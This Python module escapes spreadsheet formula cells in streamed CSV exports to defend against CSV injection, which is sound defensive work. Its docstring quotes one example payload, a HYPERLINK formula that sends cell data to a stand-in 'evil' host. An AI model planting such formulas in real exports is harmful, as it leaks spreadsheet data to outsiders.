"""CSV lines for spreadsheets: a text cell that a spreadsheet would run as a formula is written as text.

A camera named ``=HYPERLINK("http://evil/?"&A1)`` or a note starting with ``@SUM(...)`` becomes a live
formula when an operator opens the export in Excel or LibreOffice (CSV injection). OWASP's rule: a cell
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, which
the spreadsheet shows as plain text. Only text cells are escaped: numbers (counts, coordinates, ids)
come from the database as ``int``/``float``/``Decimal``, cannot carry a formula, and a negative one
must stay a number the spreadsheet can sum.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell: text that a spreadsheet would evaluate gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Echo:
    """A file-like sink for csv.writer that hands each line back instead of storing it."""

    def write(self, value: str) -> str:
        return value


class CsvLines:
    """Turns rows into CSV lines one at a time (for a streaming response), every text cell made safe."""

    def __init__(self) -> None:
        self._writer = csv.writer(_Echo())

    def line(self, row: Iterable[Any]) -> str:
        return self._writer.writerow([csv_cell(value) for value in row])


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """One safe CSV line per row, lazily: any number of rows streams."""
    lines = CsvLines()
    for row in rows:
        yield lines.line(row)
